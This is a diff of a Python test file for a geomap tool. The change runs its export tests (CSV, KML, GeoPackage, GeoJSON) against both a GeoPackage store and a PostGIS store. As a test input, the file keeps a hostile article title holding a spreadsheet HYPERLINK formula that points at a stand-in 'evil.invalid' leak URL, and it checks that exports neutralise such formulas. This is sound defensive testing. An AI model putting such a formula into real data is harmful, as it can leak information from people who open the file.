@@ -6,7 +6,8 @@ without <title>, JSON Lines records with and without title, URL and date, an inc
 with no place at all, a place imported into the gazetteer under a formula-like name,
 and texts that start cells with ``=``, ``-`` or ``@`` or carry HTML and control
 characters.  Every export must then parse with a standard reader and hold the
-right values.
+right values.  The collection is kept in each store in turn (a GeoPackage file, and a
+real PostGIS server).
 """
 
 from __future__ import annotations
@@ -17,6 +18,7 @@ import os
 import sqlite3
 from collections.abc import Iterator
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import geopandas as gpd
 import lxml.etree
@@ -27,8 +29,12 @@ from click.testing import CliRunner
 
 from geomap.cli.main import cli
 from geomap.collection.exports import FORMULA_PREFIXES, INCIDENT_CSV_COLUMNS
-from geomap.collection.store import Collection
 from geomap.gazetteer.index import CACHE_ENV, INDEX_FILE
+
+if TYPE_CHECKING:
+    from store_fixtures import StoreUnderTest
+
+pytest_plugins = ["store_fixtures"]
 
 KML = {"k": "http://www.opengis.net/kml/2.2"}
 HOSTILE_TITLE = '=HYPERLINK("http://evil.invalid/?leak","click") Wildfire near Perth'
@@ -75,7 +81,8 @@ def invoke(*args: str) -> str:
 
 
 @pytest.fixture(scope="module")
-def mixed(gazetteer_cache: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+def mixed(gazetteer_cache: Path, tmp_path_factory: pytest.TempPathFactory,
+          module_store: StoreUnderTest) -> Iterator[Path]:  # fmt: skip
     """The data directory of the collection ``mix``, added in one ``geomap add`` run,
     with a private cache (the session's index, plus the imported formula place)."""
     root = tmp_path_factory.mktemp("mixed")
@@ -103,8 +110,8 @@ def export(data: Path, fmt: str, target: Path) -> Path:
     return target
 
 
-def stored(data: Path) -> tuple[dict[str, int], gpd.GeoDataFrame]:
-    with Collection.open(data / "mix.gpkg", create=False) as collection:
+def stored(data: Path, store: StoreUnderTest) -> tuple[dict[str, int], gpd.GeoDataFrame]:
+    with store.open("mix", data) as collection:
         return collection.counts(), collection.frame("incidents")
 
 
@@ -115,9 +122,10 @@ def strict_json(text: str) -> object:
     return json.loads(text, parse_constant=refuse)
 
 
-def test_the_collection_mixes_what_news_brings(mixed: Path) -> None:
+def test_the_collection_mixes_what_news_brings(mixed: Path,
+                                               module_store: StoreUnderTest) -> None:  # fmt: skip
     """The premise of the other tests: every kind of missing value is there."""
-    with Collection.open(mixed / "mix.gpkg", create=False) as collection:
+    with module_store.open("mix", mixed) as collection:
         articles = collection.articles().set_index("article_id")
         incidents = collection.frame("incidents")
     assert articles.loc["untitled-undated", "title"] is None
@@ -129,9 +137,9 @@ def test_the_collection_mixes_what_news_brings(mixed: Path) -> None:
     assert "=Robotyne()" in set(incidents["place"])
 
 
-def test_list_tables_and_json(mixed: Path) -> None:
+def test_list_tables_and_json(mixed: Path, module_store: StoreUnderTest) -> None:
     table = invoke("list", "mix", "--data-dir", str(mixed))
-    assert "mix.gpkg: 9 articles" in table
+    assert f"{module_store.label('mix', mixed)}: 9 articles" in table
     assert "untitled-undated" in table and "no-title-tag" in table
     listing = strict_json(invoke("list", "mix", "--json", "--check", "--data-dir", str(mixed)))
     assert listing["problems"] == []
@@ -154,9 +162,11 @@ def test_list_shows_titles_as_text_not_markup_or_terminal_codes(tmp_path: Path) 
     assert "[/] [bold]Storm" in table and "\x1b" not in table
 
 
-def test_csv_parses_and_no_text_cell_is_a_formula(mixed: Path, tmp_path: Path) -> None:
+def test_csv_parses_and_no_text_cell_is_a_formula(
+    mixed: Path, tmp_path: Path, module_store: StoreUnderTest
+) -> None:
     path = export(mixed, "csv", tmp_path / "mix.csv")
-    counts, incidents = stored(mixed)
+    counts, incidents = stored(mixed, module_store)
     with path.open(encoding="utf-8", newline="") as fh:
         rows = list(csv.DictReader(fh))
     assert list(rows[0]) == INCIDENT_CSV_COLUMNS and len(rows) == counts["incidents"]
@@ -185,9 +195,10 @@ def test_csv_parses_and_no_text_cell_is_a_formula(mixed: Path, tmp_path: Path) -
     assert {r["event_id_cnty"] for r in rows} == set(incidents["incident_id"])
 
 
-def test_kml_parses_and_its_html_is_escaped_text(mixed: Path, tmp_path: Path) -> None:
+def test_kml_parses_and_its_html_is_escaped_text(mixed: Path, tmp_path: Path,
+                                                 module_store: StoreUnderTest) -> None:  # fmt: skip
     path = export(mixed, "kml", tmp_path / "mix.kml")
-    counts, incidents = stored(mixed)
+    counts, incidents = stored(mixed, module_store)
     root = lxml.etree.parse(str(path)).getroot()  # control characters would stop lxml
     assert root.findtext("k:Document/k:Style/k:BalloonStyle/k:text", namespaces=KML) == (
         "$[description]")  # fmt: skip
@@ -212,8 +223,9 @@ def test_kml_parses_and_its_html_is_escaped_text(mixed: Path, tmp_path: Path) ->
     assert len(gpd.read_file(path, layer="Incidents")) in (located, len(incidents))
 
 
-def test_gpkg_and_geojson_exports_read_back(mixed: Path, tmp_path: Path) -> None:
-    counts, incidents = stored(mixed)
+def test_gpkg_and_geojson_exports_read_back(mixed: Path, tmp_path: Path,
+                                            module_store: StoreUnderTest) -> None:  # fmt: skip
+    counts, incidents = stored(mixed, module_store)
     gpkg = export(mixed, "gpkg", tmp_path / "mix.gpkg")
     assert {name for name, _ in pyogrio.list_layers(gpkg)} == {
         "articles", "places", "incidents", "areas"}  # fmt: skip
